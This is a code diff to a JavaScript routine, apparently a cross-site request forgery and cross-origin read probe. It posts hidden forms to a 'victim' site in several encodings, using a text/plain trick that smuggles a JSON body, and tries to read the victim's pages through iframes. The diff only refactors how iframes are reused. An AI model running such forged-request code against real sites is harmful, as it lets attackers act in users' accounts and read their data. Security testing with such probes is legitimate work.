@@ -14,6 +14,8 @@ async ({ victim, reads, sends }) => {
     return part;
   };
   const asJson = (value) => new Blob([value], { type: "application/json" });
+  // One for all forms and one for all reads: a frame is dear to make and cheap to lead elsewhere.
+  const answers = add("iframe", { name: "target" + Math.random() }), reader = add("iframe");
 
   for (const { path, body, fields } of sends) {
     const url = victim + path;
@@ -38,11 +40,10 @@ async ({ victim, reads, sends }) => {
     const asText = body[0] === "{" ? { [body.slice(0, -1) + ',"x":"']: '"}' } : fields;  // JSON, with x: "="
     for (const enctype of ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"])
       await within((done) => {
-        const frame = add("iframe", { name: "target" + Math.random() });
-        const form = add("form", { method: "post", action: url, enctype, target: frame.name });
+        const form = add("form", { method: "post", action: url, enctype, target: answers.name });
         for (const [name, value] of Object.entries(enctype === "text/plain" ? asText : fields))
           form.append(Object.assign(document.createElement("input"), { name, value }));
-        frame.addEventListener("load", () => frame.contentWindow && done());
+        answers.onload = done;
         form.submit();
       });
   }
@@ -78,10 +79,11 @@ async ({ victim, reads, sends }) => {
       });
     }
     await within((done) => {
-      const frame = add("iframe", { src: url }, () => {
-        try { note("iframe", path, frame.contentDocument.body.textContent); } catch {}
+      reader.onload = () => {
+        try { note("iframe", path, reader.contentDocument.body.textContent); } catch {}
         done();
-      });
+      };
+      reader.src = url;
     });
   }
   await within((done) => {
